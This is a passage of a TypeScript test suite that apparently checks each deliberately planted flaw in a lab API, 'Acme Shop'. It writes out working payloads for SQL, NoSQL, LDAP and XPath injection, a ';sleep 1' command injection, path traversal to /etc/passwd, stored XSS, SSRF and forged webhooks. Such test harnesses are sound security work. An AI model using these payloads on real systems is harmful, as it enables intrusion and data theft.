      return r(c.status === 200 && content.includes('Acme Shop API') && !c.text.includes('Acme Shop API'), brief(c));
    },
  },

  // ---- API8 ----
  'cors-reflect': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key, headers: { origin: 'https://evil.example' } });
      return r(c.headers['access-control-allow-origin'] === 'https://evil.example' && c.headers['access-control-allow-credentials'] === 'true', JSON.stringify(c.headers));
    },
  },
  'cors-null': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key, headers: { origin: 'null' } });
      return r(c.headers['access-control-allow-origin'] === 'null', String(c.headers['access-control-allow-origin']));
    },
  },
  'cors-wildcard': {
    async run(t) {
      // Without an Origin: with an arbitrary one, cors-reflect (if on) answers first.
      const c = await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key });
      return r(c.headers['access-control-allow-origin'] === '*', String(c.headers['access-control-allow-origin']));
    },
  },
  'missing-nosniff': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key });
      return r(c.headers['x-content-type-options'] !== 'nosniff', String(c.headers['x-content-type-options']));
    },
  },
  'missing-no-store': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me', { key: t.users.alice.key });
      return r(!String(c.headers['cache-control']).includes('no-store'), String(c.headers['cache-control']));
    },
  },
  'missing-hsts': {
    options: { tls: true },
    async run(t) {
      const client = tlsClient(t);
      try {
        const c = await call(t, 'GET', '/api/v2/products/12', { dispatcher: client });
        return r(c.status === 200 && c.headers['strict-transport-security'] === undefined, String(c.headers['strict-transport-security']));
      } finally {
        await client.close();
      }
    },
  },
  'version-disclosure': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/products/12');
      const v = `${c.headers.server ?? ''} ${c.headers['x-powered-by'] ?? ''}`;
      return r(/\d+\.\d+/.test(v), v);
    },
  },
  'verbose-errors': {
    async run(t) {
      const malformed = await call(t, 'POST', '/api/v2/notes', { key: t.users.alice.key, raw: '{"title": "unterminated' });
      const wrongType = await call(t, 'POST', '/api/v2/notes', { key: t.users.alice.key, body: { title: 42 } });
      const stack = (c: CallResult) => STACK_TRACE.test(String(c.json?.stack ?? ''));
      return r(stack(malformed) && stack(wrongType), brief(malformed), brief(wrongType));
    },
  },
  'sqli-error': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/products?category=${encodeURIComponent("books'")}`);
      return r(c.status === 500 && /SQLITE_ERROR/.test(c.text), brief(c));
    },
  },
  'sqli-time': {
    async run(t) {
      const key = t.users.alice.key;
      const a = await timed(t, '/api/v2/orders?status=shipped__P__', "' AND sleep(1)--", key, 900);
      const b = await timed(t, '/api/v2/products/1__P__/reviews', ' AND sleep(1)', key, 900);
      return r(a.shown && b.shown, a.evidence, b.evidence);
    },
  },
  'nosql-injection': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/auth/login', { body: { username: 'alice', password: { $ne: null } } });
      const me = c.json?.accessToken ? await call(t, 'GET', '/api/v2/me', { key: c.json.accessToken }) : c;
      return r(c.status === 200 && me.json?.username === 'alice', brief(c));
    },
  },
  'sqli-path': {
    async run(t) {
      const path = (v: string) => `/api/v2/categories/${encodeURIComponent(v)}/products`;
      const yes = await call(t, 'GET', path("books' AND '1'='1"));
      const no = await call(t, 'GET', path("books' AND '1'='2"));
      const union = await call(t, 'GET', path("x' UNION SELECT 4242*3,'n','d','c',1,1,1,1-- -"));
      const n = (c: CallResult) => (Array.isArray(c.json?.items) ? c.json.items.length : -1);
      return r(yes.status === 200 && n(yes) > 0 && n(no) === 0 && union.text.includes('12726'), brief(yes), brief(no), brief(union));
    },
  },
  'nosql-query': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/coupons/check?code[$ne]=nothing', { key: t.users.alice.key });
      return r(c.status === 200 && c.json?.code === 'STAFF-ONLY-50', brief(c));
    },
  },
  'nosql-where': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/stores?city=${encodeURIComponent("Lyon' || 'a'==='a")}`);
      return r(c.status === 200 && Array.isArray(c.json?.items) && c.json.items.length === 4, brief(c));
    },
  },
  'cmd-injection': {
    async run(t) {
      return timed(t, '/api/v2/downloads/checksum?file=catalog-2026.txt__P__', ';sleep 1', t.users.alice.key, 900);
    },
  },
  'path-traversal': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/downloads/content?file=${encodeURIComponent(`${'../'.repeat(16)}etc/passwd`)}`, { key: t.users.alice.key });
      return r(c.status === 200 && c.text.includes('root:'), brief(c));
    },
  },
  'pinboard-html': {
    async run(t) {
      const text = `<img src=x onerror=alert(${uniq()})>`;
      const c = await call(t, 'POST', '/api/v2/pins', { key: t.users.alice.key, body: { text } });
      const view = await call(t, 'GET', '/api/v2/pins?format=html', { key: t.users.alice.key });
      const wall = await call(t, 'GET', '/api/v2/pinboard', { key: t.users.alice.key });
      return r(c.status === 201 && view.text.includes(text) && wall.text.includes(text), brief(view));
    },
  },
  'lookup-traceback': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/gift-cards/GC-7F3A-2B91', { key: t.users.alice.key });
      return r(c.status === 500 && /at .+:\d+:\d+/.test(c.text), brief(c));
    },
  },
  'sqli-search-hidden': {
    async run(t) {
      const plain = await call(t, 'GET', '/api/v2/recipes?q=', { key: t.users.alice.key });
      const open = await call(t, 'GET', `/api/v2/recipes?q=${encodeURIComponent("'))-- ")}`, { key: t.users.alice.key });
      return r(open.status === 200 && open.json.items.length > plain.json.items.length, `${plain.json.items.length} -> ${open.json?.items?.length}`);
    },
  },
  'signup-balance': {
    async run(t) {
      const username = `probe${uniq()}`.toLowerCase().slice(0, 30);
      const password = 'Probe-pass-12345';
      const made = await call(t, 'POST', '/api/v2/rewards/members', { body: { username, password, points: 5000 } });
      const me = await call(t, 'GET', '/api/v2/rewards/members/me', { headers: { 'x-rewards-auth': Buffer.from(`${username}:${password}`).toString('base64') } });
      return r(made.status === 201 && me.status === 200 && me.json?.points === 5000, brief(made), brief(me));
    },
  },
  'template-injection': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/cards/preview', { key: t.users.alice.key, body: { message: 'total: ${6*7}' } });
      return r(c.status === 200 && c.json?.preview === 'total: 42', brief(c));
    },
  },
  'nosql-where-number': {
    async run(t) {
      const one = await call(t, 'GET', '/api/v2/stores/1/reviews');
      const all = await call(t, 'GET', `/api/v2/stores/${encodeURIComponent('1 || 1===1')}/reviews`);
      return r(all.status === 200 && all.json.items.length > one.json.items.length, `${one.json?.items?.length} -> ${all.json?.items?.length}`);
    },
  },
  'race-promo-code': {
    async run(t) {
      const key = t.users.bob.key;
      const answers = await Promise.all(Array.from({ length: 6 }, () => call(t, 'POST', '/api/v2/promotions/redeem', { key, body: { code: 'SPRING10' } })));
      const again = await call(t, 'POST', '/api/v2/promotions/redeem', { key, body: { code: 'SPRING10' } });
      const ok = answers.filter((a) => a.status === 200).length;
      return r(ok > 1 && again.status === 409, `${ok} of 6 redeemed; then ${brief(again)}`);
    },
  },
  'captcha-rating-range': {
    async run(t) {
      const key = t.users.alice.key;
      const rate = async (rating: number) => {
        const c = await call(t, 'GET', '/api/v2/ratings/captcha', { key });
        const [, a, b, d] = /^(\d+) \* (\d+) - (\d+)$/.exec(String(c.json?.captcha))!;
        return call(t, 'POST', '/api/v2/ratings', { key, body: { productId: 12, rating, comment: 'scripted', captchaId: c.json?.captchaId, captcha: String(Number(a) * Number(b) - Number(d)) } });
      };
      const ok = await rate(4);
      const zero = await rate(0);
      const read = zero.status === 201 ? await call(t, 'GET', `/api/v2/ratings/${zero.json.id}`, { key }) : null;
      return r(ok.status === 201 && read?.json?.rating === 0, `${brief(ok)}; rating 0: ${brief(zero)}`);
    },
  },
  'captcha-answer-leak': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/feedback/challenge');
      const posted = await call(t, 'POST', '/api/v2/feedback', { body: { challengeId: c.json?.challengeId, answer: String(c.json?.answer), message: 'scripted' } });
      return r(c.status === 200 && posted.status === 201, `${brief(c)}; then ${brief(posted)}`);
    },
  },
  'ldap-injection': {
    async run(t) {
      const key = t.users.alice.key;
      const one = await call(t, 'GET', '/api/v2/directory/people?uid=alice', { key });
      const all = await call(t, 'GET', `/api/v2/directory/people?uid=${encodeURIComponent('*)(objectClass=*')}`, { key });
      return r(all.status === 200 && all.json.items.length > one.json.items.length, `${one.json?.items?.length} -> ${brief(all)}`);
    },
  },
  'xpath-injection': {
    async run(t) {
      const key = t.users.alice.key;
      const one = await call(t, 'GET', '/api/v2/directory/extensions?login=alice', { key });
      const all = await call(t, 'GET', `/api/v2/directory/extensions?login=${encodeURIComponent("x' or '1'='1")}`, { key });
      return r(all.status === 200 && all.json.items.length > one.json.items.length, `${one.json?.items?.length} -> ${brief(all)}`);
    },
  },
  'argument-injection': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/downloads/preview?file=--help', { key: t.users.alice.key });
      return r(/Usage: head/.test(c.text), brief(c));
    },
  },
  'sql-statement': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/reports/run', { key: t.users.alice.key, body: { sql: 'SELECT 7*191 AS n' } });
      return r(c.status === 200 && c.json.rows?.[0]?.n === 1337, brief(c));
    },
  },
  'stored-html': {
    async run(t) {
      const id = await createNote(t, `<img src=x onerror=alert(${uniq()})>`);
      const c = await call(t, 'GET', `/api/v2/notes/${id}/print`, { key: t.users.alice.key });
      return r(c.status === 200 && /text\/html/.test(c.headers['content-type'] ?? '') && /<img src=x onerror=/.test(c.text), brief(c));
    },
  },
  'jsonp-callback': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/me?callback=leak', { key: t.users.alice.key });
      return r(c.status === 200 && /javascript/.test(c.headers['content-type'] ?? '') && c.text.includes('leak({') && c.text.includes(t.users.alice.email), brief(c));
    },
  },
  'trace-enabled': {
    async run(t) {
      const c = await call(t, 'TRACE', '/api/v2/me', { headers: { 'x-probe': 'echo-me' } });
      return r(c.status === 200 && c.text.includes('x-probe: echo-me'), brief(c));
    },
  },
  'plain-http': {
    options: { tls: true },
    async run(t) {
      const c = await call(t.url.replace('https://', 'http://'), 'GET', '/api/v2/products/12');
      return r(c.status === 200 && c.json?.id === 12, `${c.status} ${c.headers.location ?? ''}`);
    },
  },

  // ---- API9 ----
  'old-version': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v1/me', { key: t.users.alice.key });
      return r(c.status === 200 && c.json?.username === 'alice', brief(c));
    },
  },
  'exposed-docs': {
    async run(t) {
      const a = await call(t, 'GET', '/openapi.json');
      const b = await call(t, 'GET', '/swagger-ui.html');
      return r(a.status === 200 && a.json?.openapi === '3.0.3' && b.status === 200 && b.text.includes('swagger-ui'), `${a.status} ${b.status}`);
    },
  },
  'debug-endpoints': {
    async run(t) {
      const env = await call(t, 'GET', '/actuator/env');
      const metrics = await call(t, 'GET', '/metrics');
      const vars = await call(t, 'GET', '/debug/vars');
      return r(env.status === 200 && Array.isArray(env.json?.propertySources) && metrics.text.includes('http_requests_total') && vars.status === 200, `${env.status} ${metrics.status} ${vars.status}`);
    },
  },
  'graphql-introspection': {
    async run(t) {
      const c = await call(t, 'POST', '/graphql', { body: { query: STANDARD_INTROSPECTION_QUERY } });
      const types = c.json?.data?.__schema?.types;
      return r(c.status === 200 && Array.isArray(types) && types.some((x: { name: string }) => x.name === 'Product'), brief(c));
    },
  },
  'undeclared-status': {
    async run(t) {
      const note = await call(t, 'POST', '/api/v2/notes', { key: t.users.alice.key, body: { title: 'status probe' } });
      const missing = await call(t, 'GET', '/api/v2/products/999999');
      return r(note.status === 200 && missing.status === 204, `create ${note.status}, unknown product ${missing.status}`);
    },
  },
  'undocumented-collection': {
    async run(t) {
      const c = await call(t, 'GET', '/api/v2/users', { key: t.users.alice.key });
      return r(c.status === 200 && JSON.stringify(c.json).includes('bob@acme.test'), brief(c));
    },
  },
  'backup-file': {
    async run(t) {
      const c = await call(t, 'GET', '/backup.sql');
      return r(c.status === 200 && c.text.includes('CREATE TABLE users'), brief(c));
    },
  },
  'robots-listing': {
    async run(t) {
      const robots = await call(t, 'GET', '/robots.txt');
      const listing = await call(t, 'GET', '/api/v2/exports/');
      const backup = await call(t, 'GET', '/api/v2/exports/orders-2024.sql.bak');
      return r(robots.text.includes('/api/v2/exports/') && listing.status === 200 && listing.text.includes('orders-2024.sql.bak') && backup.text.includes('CREATE TABLE orders'), brief(listing));
    },
  },
  'client-bundle-route': {
    async run(t) {
      const script = await call(t, 'GET', '/static/app.js');
      const c = await call(t, 'GET', `/api/v2/outbound?url=${encodeURIComponent('https://evil.example/landing')}`);
      return r(script.text.includes('/api/v2/outbound') && c.status === 302 && c.headers.location === 'https://evil.example/landing', `${c.status} ${c.headers.location ?? ''}`);
    },
  },
  'debug-console': {
    async run(t) {
      const c = await call(t, 'GET', '/console');
      return r(c.status === 200 && c.text.includes('Werkzeug Debugger'), brief(c));
    },
  },

  'legacy-xml-upload': {
    async run(t) {
      const xml = '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY a "joined"><!ENTITY b "-entities">]><c>&a;&b;</c>';
      const c = await call(t, 'POST', '/api/v2/file-upload', { raw: multipartFile('c.xml', 'application/xml', xml), headers: { 'content-type': `multipart/form-data; boundary=${PROBE_BOUNDARY}` } });
      return r(c.status === 410 && c.text.includes('joined-entities'), brief(c));
    },
  },
  'upload-type-unchecked': {
    async run(t) {
      const c = await call(t, 'POST', '/api/v2/file-upload', { raw: multipartFile('probe.exe', 'application/x-msdownload', 'plain text'), headers: { 'content-type': `multipart/form-data; boundary=${PROBE_BOUNDARY}` } });
      return r(c.status === 201, brief(c));
    },
  },
  'avatar-url-ssrf': {
    async run(t) {
      const l = await listen();
      try {
        const c = await call(t, 'POST', '/api/v2/avatar/url', { key: t.users.alice.key, body: { avatarUrl: `${l.url}/avatar.png` } });
        return r(c.status === 200 && l.hits.length === 1, brief(c), l.hits.length);
      } finally {
        await l.close();
      }
    },
  },

  // ---- API10 ----
  'open-redirect': {
    async run(t) {
      const c = await call(t, 'GET', `/api/v2/links/out?url=${encodeURIComponent('https://evil.example/landing')}`);
      return r(c.status === 302 && c.headers.location === 'https://evil.example/landing', `${c.status} ${c.headers.location ?? ''}`);
    },
  },
  'follow-redirects': {
    alsoShownBy: ['ssrf'],
    async run(t) {
      const internal = await listen((_req, res) => {
        res.writeHead(200, { 'content-type': 'text/plain' });
        res.end('internal-only: billing ledger');
      });
      const trusted = await listen((_req, res) => {
        res.writeHead(302, { location: `${internal.url}/ledger` });
        res.end();
      });
      try {
        t.allowFetchOrigin(trusted.url);
        const c = await call(t, 'POST', '/api/v2/link-preview', { key: t.users.alice.key, body: { url: `${trusted.url}/article` } });
        return r(c.status === 200 && String(c.json?.snippet).includes('internal-only') && internal.hits.length === 1, brief(c));
      } finally {
        await trusted.close();
        await internal.close();
      }
    },
  },
  'unsigned-webhook': {
    async run(t) {
      const pending = SEED.orders.alice[3]; // 1006, pending
      const c = await call(t, 'POST', '/api/v2/webhooks/payment-provider', { body: { id: `evt_${uniq()}`, type: 'payment.succeeded', orderId: pending } });
      const order = await call(t, 'GET', `/api/v2/orders/${pending}`, { key: t.users.alice.key });
      return r(c.status === 200 && order.json?.status === 'paid', brief(c), `order ${order.json?.status}`);
    },
  },

  // ---- stateful ----
  'use-after-delete': {
    async run(t) {
      const id = await createNote(t);
      const del = await call(t, 'DELETE', `/api/v2/notes/${id}`, { key: t.users.alice.key });
      const again = await call(t, 'GET', `/api/v2/notes/${id}`, { key: t.users.alice.key });
      return r(del.status === 204 && again.status === 200, `DELETE ${del.status}, GET after ${again.status}`);
    },
  },
  'leak-on-failed-create': {
    async run(t) {
      const title = `leak-${uniq()}`;
      const c = await call(t, 'POST', '/api/v2/notes', { key: t.users.alice.key, body: { title, priority: 'high' } });
      const list = await call(t, 'GET', '/api/v2/notes?per_page=50', { key: t.users.alice.key });
      const leaked = list.json.items.some((n: { title: string }) => n.title === title);
      return r(c.status >= 400 && c.status < 500 && leaked, `create ${c.status}, in list: ${leaked}`);
    },
  },
};
